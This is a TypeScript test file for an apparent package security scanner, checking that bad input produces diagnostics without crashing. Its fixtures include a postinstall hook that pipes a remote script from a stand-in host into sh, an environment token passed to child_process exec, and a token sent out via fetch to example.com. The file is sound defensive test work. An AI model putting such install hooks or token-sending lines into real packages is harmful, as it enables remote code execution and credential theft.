// Bad input through the whole pipeline (folders here; tarballs and registries
// have their own files): each gives a diagnostic, never a crash, and the rest
// of the package is still scanned.
import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { AcquireError } from "../analyzer/acquire/index.js";
import { scan } from "../analyzer/scan.js";
import type { ScanResult } from "../analyzer/types.js";
import { tempDir } from "./support/tarballs.js";

function folder(files: Record<string, string | Buffer>): string {
  const dir = tempDir();
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}

// These fixtures hold no MCP server; the note that says so (tools-unread) is not what these tests are about.
const diag = (r: ScanResult) => r.diagnostics.filter((d) => d.code !== "tools-unread").map((d) => `${d.code} ${d.file ?? "-"}`);
const noCrash = (r: ScanResult) => assert.deepEqual(r.diagnostics.filter((d) => d.code === "internal-error"), []);

test("bad input: an empty folder, or a package with no JS/TS, is an error that says so, never \"No findings\"", async () => {
  const empty = tempDir();
  await assert.rejects(scan(empty), (err: Error) => err instanceof AcquireError && err.message === `${empty}: nothing to scan: no files found (is it the right folder?)`);
  const python = folder({ "package.json": JSON.stringify({ name: "py-wrapper", version: "1.0.0" }), "server.py": "print('hi')\n", "README.md": "# hi\n" });
  await assert.rejects(scan(python), (err: Error) => err instanceof AcquireError && /: nothing to scan: it holds no JavaScript or TypeScript file \(3 files read\)/.test(err.message));
  const unparsable = folder({ "package.json": JSON.stringify({ name: "broken", version: "1.0.0" }), "index.js": "export const = ;\n" });
  await assert.rejects(scan(unparsable), /nothing to scan: none of its JavaScript or TypeScript files could be parsed/);
  // A manifest alone still reports what it shows (an install script), with a warning that no code was read.
  const scriptOnly = folder({ "package.json": JSON.stringify({ name: "script-only", version: "1.0.0", scripts: { postinstall: "curl -s https://get.example.net/x.sh | sh" } }) });
  const result = await scan(scriptOnly);
  assert.deepEqual(result.findings.map((f) => f.ruleId).filter((id) => id === "install-script"), ["install-script"]);
  assert.ok(result.diagnostics.some((d) => d.code === "no-code" && d.level === "warning"));
});

test("bad input: a 50 MB minified file is skipped by the default per-file cap; the rest is scanned", async () => {
  const line = Buffer.from("var a=function(b){return b+1},c=a(2);");
  const big = Buffer.alloc(50 * 1024 * 1024);
  for (let i = 0; i < big.length; i += line.length) line.copy(big, i);
  const dir = folder({ "package.json": JSON.stringify({ name: "bundled", version: "1.0.0" }), "index.js": "module.exports = require('./dist/bundle.min.js');\n", "dist/bundle.min.js": big });
  const result = await scan(dir);
  noCrash(result);
  assert.equal(result.package.filesScanned, 1);
  const skipped = result.diagnostics.find((d) => d.code === "file-too-large");
  assert.equal(skipped?.file, "dist/bundle.min.js");
  assert.equal(skipped?.message, `skipped: ${50 * 1024 * 1024} bytes is over the per-file cap of ${24 * 1024 * 1024} (raise with --max-file-size)`);
});

test("bad input: a package.json that is not JSON, and a file of invalid UTF-8, still leave the code scanned", async () => {
  const dir = folder({
    "package.json": '{ "name": "broken", "scripts": { "postinstall": "node x.js" ',
    "index.js": Buffer.concat([Buffer.from("export const s = '"), Buffer.from([0xff, 0xc3, 0x28]), Buffer.from("';\n")]),
  });
  const result = await scan(dir);
  noCrash(result);
  assert.equal(result.package.manifestInvalid, true);
  assert.equal(result.package.filesScanned, 1);
  assert.deepEqual(diag(result), ["invalid-package-json package.json", "invalid-utf8 index.js"]);
});

test("bad input: 10,000 nested expressions are a parse diagnostic; 1,500 chained ones are analyzed without overflowing any later stage", async () => {
  const n = 10_000;
  const dir = folder({
    "package.json": JSON.stringify({ name: "deep", version: "1.0.0" }),
    "parens.js": `const x = ${"(".repeat(n)}process.env.TOKEN${")".repeat(n)};\nrequire("child_process").exec(x);\n`,
    "nested.ts": `export const y = ${"[".repeat(n)}${"]".repeat(n)};\n`,
    "chain.js": `const t = process.env.TOKEN;\nconst y = ${Array(1500).fill("t").join(" + ")};\nfetch("https://example.com/?q=" + y);\nmodule.exports = y;\n`,
    "ok.js": "module.exports = 1;\n",
  });
  const result = await scan(dir);
  noCrash(result);
  assert.equal(result.package.filesScanned, 2);
  assert.deepEqual(
    result.diagnostics.filter((d) => d.code === "parse-error").map((d) => `${d.file}: ${d.message}`),
    ["nested.ts: could not parse: nesting too deep for the parser; this file was not analyzed", "parens.js: could not parse: nesting too deep for the parser; this file was not analyzed"],
  );
});

test("bad input: a symlink out of the folder is not followed", async () => {
  const outside = folder({ "secret.js": "module.exports = 'outside';\n" });
  const dir = folder({ "package.json": JSON.stringify({ name: "linky", version: "1.0.0" }), "index.js": "module.exports = 1;\n" });
  symlinkSync(path.join(outside, "secret.js"), path.join(dir, "secret.js"));
  symlinkSync(outside, path.join(dir, "lib"));
  const result = await scan(dir);
  assert.equal(result.package.filesScanned, 1);
  assert.deepEqual(diag(result), ["symlink-skipped -"]);
});
